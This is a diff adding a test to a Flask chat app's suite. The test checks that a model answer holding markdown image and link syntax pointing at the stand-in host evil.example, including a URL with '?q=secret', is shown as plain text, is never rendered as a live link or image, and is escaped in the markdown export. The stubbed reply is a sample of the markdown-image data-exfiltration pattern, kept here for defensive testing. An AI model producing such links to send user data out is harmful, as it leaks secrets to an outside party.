@@ -205,6 +205,18 @@ def test_the_answer_of_a_model_is_rendered_safely(model_client: FlaskClient, mod
     assert "writer" in html
 
 
+def test_an_answer_links_to_no_address_of_the_model_anywhere(model_client: FlaskClient, model: ModelServer) -> None:
+    model.reply = lambda _: "By rank [1]. ![x](https://evil.example/p.png) [bank](https://evil.example/?q=secret)"
+    response = ask(model_client)
+    shown = response.get_data(as_text=True)
+    assert "evil.example" in shown
+    assert 'href=\\"https://evil.example' not in shown, "while it is written neither"
+    conversation = last(response)["conversation"]
+    assert "https://evil.example" not in "".join(re.findall(r'href="([^"]*)"', model_client.get(conversation).text))
+    exported = model_client.get(f"{conversation}/export.md").get_data(as_text=True)
+    assert r"\![x] (https://evil.example/p.png) [bank] (https://evil.example/?q=secret)" in exported
+
+
 def test_a_failing_model_is_named_and_the_passages_are_quoted(model_client: FlaskClient, model: ModelServer) -> None:
     model.broken = 500
     html = last(ask(model_client))["html"]
